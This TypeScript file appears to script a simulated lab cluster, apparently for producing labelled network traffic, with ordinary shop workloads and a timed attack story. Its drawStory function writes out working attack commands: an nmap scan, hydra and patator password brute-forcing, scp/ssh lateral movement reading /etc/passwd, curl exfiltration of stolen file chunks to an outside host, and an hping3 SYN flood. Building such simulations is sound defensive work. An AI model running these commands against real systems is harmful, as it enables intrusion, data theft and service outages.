import { lootFile, passwordFile, tcp } from './attacks/plan.ts'
import type { AttackPlan } from './attacks/plan.ts'
import type { World } from './draw-world.ts'
import type { Place } from './place.ts'
import { METRICS_PORT, STREAM_PORT } from './settings.ts'
import type { Settings } from './settings.ts'
import type { Load } from './benign/kind.ts'
import { CACHE_PASSWORD } from './servers/servers.ts'
import type { Scheduled } from './scenarios.ts'
import { program } from '../setup/tools.ts'

const APP_PORT = 8000

/** The cluster of the story is a plain one: nothing is drawn but the addresses. */
export const STORY_SETTINGS: Settings = {
  offloads: false,
  mtu: 1500,
  nowhere: 'silence',
  firewalled: [],
  proxied: [],
  synCookies: true,
  backlog: 512,
  synAckRetries: 1,
  narrow: {},
  appPort: APP_PORT,
  appTlsPort: 8443,
  tcpPorts: [9092, 5672],
  udpPorts: [5004, 8125],
  pam: false,
  ftpDelay: 1,
  maxAuthTries: 6,
  extras: {},
}

/** A small shop at work. */
function ordinary (world: World): Load[] {
  const at = (name: string) => world.pod(name).address
  const targets = world.pod('targets').addresses.slice(0, 20)
  return [
    { name: 'customers', rate: null, pod: world.pod('outside'), job: { kind: 'http', urls: Array.from({ length: 12 }, (_, i) => `http://${at('web')}/page${i + 1}.html`), rate: 6, keepAlive: true } },
    { name: 'front end', rate: null, pod: world.pod('web'), job: { kind: 'http', urls: [`http://${at('shop')}:${APP_PORT}/page/1`, `http://${at('orders')}:${APP_PORT}/bytes/900`], rate: 8, keepAlive: true } },
    { name: 'order stream', rate: null, pod: world.pod('shop'), job: { kind: 'stream', authority: `http://${at('orders')}:${STREAM_PORT}`, streams: 4, rate: 6, requestBytes: 300, responseBytes: 200 } },
    { name: 'queries', rate: null, pod: world.pod('orders'), command: `export PGPASSWORD=app-secret; echo 'select name, price from item where id = (random() * 19999)::int;' > q.sql; ${program('pgbench')} -n -h ${at('database')} -U app -f q.sql -c 3 -R 8 -T 600 postgres` },
    { name: 'sessions', rate: null, pod: world.pod('shop'), job: { kind: 'redis', host: at('cache'), password: CACHE_PASSWORD, connections: 3, rate: 12, valueBytes: 300 } },
    { name: 'metrics', rate: null, pod: world.pod('monitor'), job: { kind: 'scrape', urls: targets.map((address) => `http://${address}:${METRICS_PORT}/metrics?n=60`), intervalMs: 15_000, burst: false, keepAlive: true } },
    { name: 'health', rate: null, pod: world.pod('monitor'), job: { kind: 'probe', targets: [{ host: at('web'), port: 80 }, { host: at('shop'), port: APP_PORT }, { host: at('orders'), port: APP_PORT }, { host: at('database'), port: 5432 }], everyMs: 5000, backoff: 1, timeoutMs: 1000 } },
    { name: 'names', rate: null, pod: world.pod('shop'), job: { kind: 'names', server: at('names'), names: ['database.lab', 'cache.lab', 'orders.lab'], rate: 3, freshLabels: 0, labelCharacters: 0 } },
    { name: 'events', rate: null, pod: world.pod('orders'), job: { kind: 'idle', host: at('shop'), port: 9092, connections: 3, everyMs: 2000 } },
    { name: 'administration', rate: null, pod: world.pod('bastion'), command: `while :; do for a in ${['web', 'cache', 'files'].map(at).join(' ')}; do ssh ops@$a uptime >/dev/null; done; sleep 20; done` },
    { name: 'backup', rate: null, pod: world.pod('database'), command: `sleep 8; head -c 600000 /dev/urandom > b.bin; rsync -q --bwlimit=300 b.bin alice@${at('files')}:nightly` },
  ]
}

/** A worker pod has been taken over. It looks around, guesses, moves on, takes the data out, and covers its leave with a flood. */
export function drawStory (world: World): { loads: Load[], attacks: Scheduled[] } {
  const [worker, web, database, files, outside] = [world.pod('worker'), world.pod('web'), world.pod('database'), world.pod('files'), world.pod('outside')]
  const looks = 'id; sleep 0.7; uname -a; sleep 1; ls -la / /etc; sleep 1.3; cat /etc/passwd; sleep 0.8; ss -tan; sleep 1; ps ax; sleep 1'
  const stolen = lootFile(world, files, 2_400_000)
  const tool = lootFile(world, worker, 400_000)
  const attack = (atSeconds: number, plan: Omit<AttackPlan, 'attackers' | 'service' | 'manner' | 'rate'> & { attacker: Place }): Scheduled => {
    const { attacker, ...rest } = plan
    return { atSeconds, plan: { ...rest, service: 'any', manner: 'plain', rate: null, attackers: [attacker] } }
  }
  return {
    loads: ordinary(world),
    attacks: [
      attack(12, {
        class: 'PORT_SCAN',
        tool: 'nmap -sS',
        attacker: worker,
        victims: [web.address, database.address, files.address],
        seconds: 16,
        legs: [web, database, files].map((pod) => tcp(worker, pod, null)),
        command: `nmap -n -Pn -sS --max-rate 200 --max-retries 0 -p 1-900 ${web.address} ${database.address} ${files.address}`,
      }),
      attack(30, {
        class: 'BRUTE_FORCE',
        tool: 'hydra postgres',
        attacker: worker,
        victims: [database.address],
        seconds: 14,
        legs: [tcp(worker, database, [5432])],
        command: `hydra -I -t 4 -l postgres -P ${passwordFile(world, worker, 400)} postgres://${database.address}`,
      }),
      attack(36, {
        class: 'BRUTE_FORCE',
        tool: 'patator ssh_login',
        attacker: worker,
        victims: [files.address],
        seconds: 14,
        legs: [tcp(worker, files, [22])],
        command: `patator ssh_login host=${files.address} user=alice password=FILE0 0=$PWD/${passwordFile(world, worker, 500)} -t 4 --rate-limit=0.2`,
      }),
      attack(52, {
        class: 'LATERAL_MOVEMENT',
        tool: 'scp, ssh hops',
        attacker: worker,
        victims: [files.address, database.address],
        seconds: 18,
        legs: [tcp(worker, files, [22]), tcp(files, database, [22])],
        command: `scp -q ${tool} alice@${files.address}:tool; ssh alice@${files.address} '${looks}; scp -q tool alice@${database.address}:tool; ssh alice@${database.address} "${looks}"' >/dev/null`,
      }),
      attack(68, {
        class: 'DATA_EXFILTRATION',
        tool: 'curl chunks',
        attacker: files,
        victims: [outside.address],
        seconds: 16,
        legs: [tcp(files, outside, [APP_PORT])],
        command: `split -b 80000 ${stolen} ${stolen}.; for f in ${stolen}.*; do curl -s -o /dev/null --data-binary @$f http://${outside.address}:${APP_PORT}/up; sleep 0.3; done`,
      }),
      attack(80, {
        class: 'SYN_FLOOD',
        tool: 'hping3 --rand-source',
        attacker: worker,
        victims: [web.address],
        seconds: 9,
        legs: [{ source: null, destination: web.address, protocol: 'tcp', ports: [80] }],
        command: `hping3 -q -S -p 80 -i u1250 -c 6000 --rand-source ${web.address}`,
      }),
    ],
  }
}
